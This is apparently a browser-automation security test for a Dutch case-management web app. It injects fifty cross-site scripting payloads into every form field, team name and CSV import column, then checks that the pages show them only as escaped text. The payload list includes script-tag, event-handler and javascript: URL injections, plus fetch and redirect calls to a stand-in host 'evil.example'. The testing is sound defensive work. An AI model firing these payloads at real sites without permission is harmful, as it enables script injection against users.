// Fifty ways to make a page do something else than show a text, in every field of every form: what comes back is a text. What
// the node takes in is looked at wherever it is shown.

import { faults, finish, go, launch, listen, partners, person } from "./browser.mjs";
import { button, choose, press } from "./steps.mjs";

const { partners: all } = partners();
const [first] = all;

const ACTS = ["alert(1)", "fetch('//evil.example')", "document.title='x'", "top.location='//evil.example'", "eval(name)"];
const SHAPES = [
  "<script>§</script>", "\"><script>§</script>", "'><img src=x onerror=§>", "</title><svg onload=§>", "\" onmouseover=\"§\" x=\"",
  "' autofocus onfocus='§", "</textarea><body onload=§>", "<a href=\"javascript:§\">x</a>",
  "<!--><iframe srcdoc='<script>§</script>'>", "{{ § }}${§}<%= § %>",
];
const PAYLOADS = SHAPES.flatMap((shape) => ACTS.map((act) => shape.replace("§", act)));
/** All of them, five in one text: that is as long as a field may be. */
const TEXTS = ACTS.flatMap((act) => [SHAPES.slice(0, 5), SHAPES.slice(5)].map((half) => half.map((shape) => shape.replace("§", act)).join("")));
let shown = 0;

/** Nothing of a page is of anybody else's making. */
async function harmless(page, name) {
  const found = await page.evaluate(() => {
    const bad = "main iframe, main svg:not([viewBox]), main script, main img, main textarea, script:not([src]), [href^='javascript:' i], base, object";
    const handlers = [...document.querySelectorAll("*")].filter((one) => [...one.attributes].some((attribute) => /^on|^srcdoc$/.test(attribute.name)));
    return [...document.querySelectorAll(bad), ...handlers].map((one) => one.outerHTML.slice(0, 120));
  });
  found.forEach((one) => faults.push(`${name}: ${one}`));
}

/** Fills every text field of the page's form with a payload, the next one in each, and sends it. */
async function fill(page, name, from, send) {
  const fields = page.locator("main form input[type=text], main form input[type=email], main form input[type=tel], main form input[type=password]");
  const count = await fields.count();
  for (let field = 0; field < count; field += 1) {
    await fields.nth(field).evaluate((node, text) => {
      node.removeAttribute("maxlength");
      node.type = "text";
      node.value = text;
    }, TEXTS[(from + field) % TEXTS.length]);
  }
  // What the browser itself would refuse is sent all the same.
  await page.evaluate(() => [...document.forms].forEach((form) => { form.noValidate = true; }));
  await send();
  await page.waitForLoadState("load");
  await harmless(page, `${name} with payload ${from}`);
  const text = await page.evaluate(() => [...document.querySelectorAll("main input")].map((one) => one.value).join("\n") + document.body.innerText);
  if (PAYLOADS.some((payload) => text.includes(payload))) shown += 1;
}

/** The same form until every payload was in every field. */
async function form(page, name, where, send) {
  for (let from = 0; from < TEXTS.length; from += 1) {
    if (from === 0 || !(await page.locator("main form").count())) await go(page, where);
    await fill(page, name, from, () => send(page));
    if (new URL(page.url()).pathname !== where) await go(page, where);
  }
}

const last = (page) => page.locator("main form button").last().click();

async function signedIn(browser, role) {
  const page = await person(browser, first, role, { checks: true });
  page.on("dialog", async (dialog) => {
    faults.push(`${page.who}: a dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(first.address)) faults.push(`${page.who}: asks ${request.url()}`);
  });
  return page;
}

const browser = await launch();
try {
  const anna = await signedIn(browser, 0);
  await go(anna, "/signals/new");
  await choose(anna, "decision");
  await press(anna, button(anna, "Verder"));
  await anna.waitForURL(/\/who$/);
  const draft = new URL(anna.url()).pathname;
  await form(anna, "who", draft, (page) => page.locator('button[value="add"]').click());
  await form(anna, "reach", draft.replace("who", "reach"), last);
  await form(anna, "family", draft.replace("who", "family"), last);
  await go(anna, draft.replace("who", "check"));
  await harmless(anna, "check");
  await form(anna, "absence", "/absence", (page) => page.locator('button[value="set"]').click());

  const joost = await signedIn(browser, "functioneel beheerder");
  await form(joost, "person", "/people/new", last);
  for (const payload of TEXTS) {
    await go(joost, "/people");
    const field = joost.locator('form[action="/people/teams"] input[type=text]');
    await field.evaluate((node, text) => { node.removeAttribute("maxlength"); node.value = text; }, payload);
    await joost.locator('form[action="/people/teams"] button').click();
    await joost.waitForLoadState("load");
    await harmless(joost, `a team called ${payload}`);
  }
  await go(joost, "/people/new");
  await harmless(joost, "teams to choose from");
  await go(joost, "/import");
  const columns = PAYLOADS.map((payload) => `"${payload.replaceAll('"', '""')}"`).join(",");
  const name = `${PAYLOADS[0].replaceAll("/", "")}.csv`;
  await joost.setInputFiles("#file", { name, mimeType: "text/csv", buffer: Buffer.from(`case,person,role,bsn,${columns}\n`) });
  await joost.locator('button[value="try"]').click();
  await joost.waitForSelector(".summary");
  await harmless(joost, "columns of a file");
  const henk = await signedIn(browser, "functionaris gegevensbescherming");
  await form(henk, "access request", "/access-request", last);

  const stranger = await (await browser.newContext({ bypassCSP: true })).newPage();
  listen(stranger);
  stranger.address = first.address;
  // Beyond a few, the node makes who guesses wait; what it says then is looked at just so.
  await form(stranger, "sign-in", "/sign-in", last);
  await form(stranger, "activation", "/activate", last);
  // The control: payloads did come back as texts.
  if (shown < 40) faults.push(`control: only ${shown} pages showed a payload as a text`);
  await go(anna, "/account");
  await anna.locator("main").evaluate((node) => { node.insertAdjacentHTML("beforeend", "<b onclick='x'>x</b>"); });
  const before = faults.length;
  await harmless(anna, "control");
  if (faults.length === before) faults.push("control: what was planted is not found");
  else faults.length = before;
} catch (error) {
  faults.push(String(error.stack || error));
} finally {
  await browser.close();
}
finish("payloads");
